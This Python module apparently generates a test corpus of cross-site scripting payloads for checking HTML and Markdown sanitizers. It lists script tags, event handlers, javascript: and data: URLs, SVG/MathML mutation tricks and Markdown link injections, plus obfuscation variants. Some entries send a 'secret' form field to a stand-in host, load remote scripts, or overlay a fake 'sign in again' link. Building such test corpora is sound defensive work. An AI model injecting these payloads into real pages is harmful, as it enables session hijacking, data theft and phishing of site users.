"""What pages have been made to run with: tags, attributes, addresses, Markdown, and ways to hide them."""

from __future__ import annotations

from collections.abc import Callable

EVIL = "https://evil.example"
PAYLOADS = 300

_TAGS = (
    "<script>ran(1)</script>",
    "<script src=EVIL/x.js></script>",
    "<script type=module>import 'EVIL/m.js';ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    "<img src=EVIL/p.png>",
    "<img srcset='EVIL/a.png 1x'>",
    "<image src=x onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><image href=EVIL/i.svg></svg>",
    "<svg><use href='EVIL/u.svg#a'></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:ran(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body onload=ran(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(1)&gt;'>",
    "<math href='javascript:ran(1)'>x</math>",
    "<body onload=ran(1)>",
    "<body onpageshow=ran(1)>",
    "<iframe src='javascript:parent.ran(1)'></iframe>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=EVIL/f.html></iframe>",
    "<object data='javascript:ran(1)'></object>",
    "<object data=EVIL/o.swf></object>",
    "<embed src='javascript:ran(1)'>",
    "<embed src=EVIL/e.svg>",
    "<applet code=x archive=EVIL/a.jar></applet>",
    "<link rel=stylesheet href=EVIL/s.css>",
    "<link rel=prefetch href=EVIL/p>",
    "<link rel=preconnect href=EVIL><link rel=modulepreload href=EVIL/m.js>",
    "<style>@import 'EVIL/s.css';</style>",
    "<style>body{background:url(EVIL/b.png)}</style>",
    "<div style=\"background:url('EVIL/d.png')\">x</div>",
    "<div style=\"width:expression(ran(1))\">x</div>",
    "<base href=EVIL/>",
    "<meta http-equiv=refresh content='0;url=EVIL/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "<form action=EVIL/f><input name=q value=secret></form><script>document.forms[0].submit()</script>",
    "<form action='javascript:ran(1)'><button>x</button></form>",
    "<button formaction='javascript:ran(1)' autofocus onfocus=ran(1)>x</button>",
    "<input autofocus onfocus=ran(1)>",
    "<input type=image src=EVIL/i.png onerror=ran(1)>",
    "<select autofocus onfocus=ran(1)><option>x</select>",
    "<textarea autofocus onfocus=ran(1)></textarea>",
    "<details open ontoggle=ran(1)><summary>x</summary></details>",
    "<video src=x onerror=ran(1)></video>",
    "<video poster=EVIL/v.png><source src=EVIL/v.mp4></video>",
    "<audio src=EVIL/a.mp3 autoplay></audio>",
    "<video><source onerror=ran(1)></video>",
    "<track src=EVIL/t.vtt>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<a href='javascript:ran(1)'>click</a>",
    "<a href=\"java\tscript:ran(1)\">click</a>",
    "<a href='&#106;avascript:ran(1)'>click</a>",
    "<a href='data:text/html,<script>opener.ran(1)</script>'>click</a>",
    "<a href='vbscript:ran(1)'>click</a>",
    "<a href=# onmouseover=ran(1)>over</a>",
    "<p onpointerenter=ran(1) onclick=ran(1)>x</p>",
    "<div id=app class=root style='position:fixed;inset:0;z-index:99999'><a href=EVIL>sign in again</a></div>",
    "<img src=1 href=1 onerror='ran(1)'><//img>",
    "<x onfocus=ran(1) tabindex=1 id=x autofocus>",
    "\"><script>ran(1)</script>",
    "'><img src=x onerror=ran(1)>",
    "\" autofocus onfocus=\"ran(1)",
    "</title><script>ran(1)</script>",
    "</textarea><script>ran(1)</script>",
    "</script><script>ran(1)</script>",
    "--><script>ran(1)</script>",
    "]]><script>ran(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<template><script>ran(1)</script></template><img src=x onerror=ran(1)>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>ran(1)</script></html>",
    "{{constructor.constructor('ran(1)')()}}",
    "${ran(1)}",
    "<portal src=EVIL/p></portal><fencedframe></fencedframe>",
    "<isindex type=image src=x onerror=ran(1)>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:ran(1))",
    "[x](JaVaScRiPt:ran(1))",
    "[x](java&#10;script:ran(1))",
    "[x](<javascript:ran(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKDEpPC9zY3JpcHQ+)",
    "[x](vbscript:ran(1))",
    "![x](javascript:ran(1))",
    "![x](EVIL/p.png)",
    "![x](//evil.example/p.png)",
    "![x][p]\n\n[p]: EVIL/q.png",
    "[x][j]\n\n[j]: javascript:ran(1)",
    "<javascript:ran(1)>",
    "[![x](EVIL/in.png)](javascript:ran(1))",
    "[x](EVIL/?q=secret 'a\" onmouseover=\"ran(1)')",
    "| a | b |\n| --- | --- |\n| <img src=x onerror=ran(1)> | [x](javascript:ran(1)) |",
    "```html\n<script>ran(1)</script>\n```",
    "`</code><script>ran(1)</script>`",
    "# <svg onload=ran(1)>",
    "> <iframe src=EVIL/quoted></iframe>",
    "- [ ] <img src=x onerror=ran(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=ran(1)>",
    "[1](javascript:ran(1)) [1]",
    "[1]: javascript:ran(1)\n\n[1]",
    "www.evil.example/<script>ran(1)</script>",
    "EVIL/%22onmouseover=%22ran(1)",
)  # fmt: skip

_WAYS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("script", "scRipt").replace("onerror", "oNeRrOr").replace("onload", "ONLOAD"),
    lambda text: "转专业的平均绩点不得低于3.2[1]。" + text.replace(" on", "\non").replace(" src", "\x0csrc"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;") + text.replace("<", "\\<"),
)


def xss_payloads(count: int = PAYLOADS) -> list[str]:
    """Return so many payloads: each that there is in the first way, then all in the next, …; `ran(1)` tells that one
    ran, a request to `EVIL` that one reached out."""
    base = [text.replace("EVIL", EVIL) for text in (*_TAGS, *_MARKDOWN)]
    made = list(dict.fromkeys(way(text) for way in _WAYS for text in base))
    step = max(1, len(made) // count) if count < len(base) else 1
    return made[: count * step : step]
